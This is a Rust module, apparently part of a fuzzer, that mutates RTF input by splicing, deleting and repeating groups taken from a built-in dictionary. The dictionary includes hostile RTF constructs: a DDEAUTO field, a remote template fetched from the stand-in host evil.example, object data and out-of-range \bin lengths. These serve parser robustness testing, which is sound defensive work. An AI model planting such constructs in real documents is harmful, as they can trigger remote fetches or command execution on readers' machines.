//! Changes of groups and control words.

use crate::Chance;

const WORDS: [&str; 40] = [
    "{",
    "}",
    "{\\*",
    "\\object",
    "{\\*\\objdata 0105",
    "\\objupdate",
    "{\\field{\\*\\fldinst DDEAUTO a}{\\fldrslt b}}",
    "{\\field",
    "\\fldinst ",
    "\\fldrslt ",
    "{\\*\\template http://evil.example/}",
    "\\u-10179?",
    "\\u8238?",
    "\\u0?",
    "\\uc0 ",
    "\\uc9999 ",
    "\\'",
    "\\'81",
    "\\bin4 ",
    "\\bin2147483647 ",
    "\\bin-1 ",
    "{\\pict\\pngblip ",
    "{\\pict\\dibitmap0 28000000",
    "\\wmetafile8",
    "\\listoverridecount25",
    "\\f32768",
    "\\fcharset128 ",
    "\\fcharset2 ",
    "\\ansicpg932 ",
    "\\v ",
    "\\v0 ",
    "{\\fonttbl",
    "{\\*\\listtable{\\list{\\listlevel{\\leveltext\\'02\\'00.;}",
    "{\\shp{\\*\\shpinst{\\sp{\\sn pib}{\\sv ",
    "{\\upr{a}{\\*\\ud{",
    "{\\header ",
    "\\trowd\\cellx99999999\\cell\\row ",
    "\\par\n",
    "{\\*\\cs1 ",
    "\x00",
];

pub(super) fn changed(mut bytes: Vec<u8>, chance: &mut Chance) -> Vec<u8> {
    let length = bytes.len();
    match chance.below(5) {
        0 | 1 => {
            let at = chance.below(length + 1);
            let word = chance.one(&WORDS).bytes();
            bytes.splice(at..at, word);
        }
        2 => {
            let place = group(&bytes, chance);
            bytes.drain(place);
        }
        3 => {
            let (from, at) = (group(&bytes, chance), chance.below(length + 1));
            let part = bytes[from].to_vec();
            bytes.splice(at..at, part);
        }
        _ => {
            let place = group(&bytes, chance);
            let times = 1 << chance.below(9);
            let part = bytes[place.clone()].repeat(times.min((128 << 10) / (place.len() + 1)));
            bytes.splice(place, part);
        }
    }
    bytes
}

/// From a brace or backslash to the next that fits it.
fn group(bytes: &[u8], chance: &mut Chance) -> std::ops::Range<usize> {
    let at = chance.below(bytes.len());
    let start = bytes[..at]
        .iter()
        .rposition(|byte| matches!(byte, b'{' | b'\\'))
        .unwrap_or(0);
    let mut depth = 0i32;
    let end = bytes[start..].iter().position(|byte| {
        depth += match byte {
            b'{' => 1,
            b'}' => -1,
            _ => 0,
        };
        depth <= 0 && matches!(byte, b'}' | b' ' | b'\n')
    });
    start..end.map_or(bytes.len(), |end| start + end + 1)
}
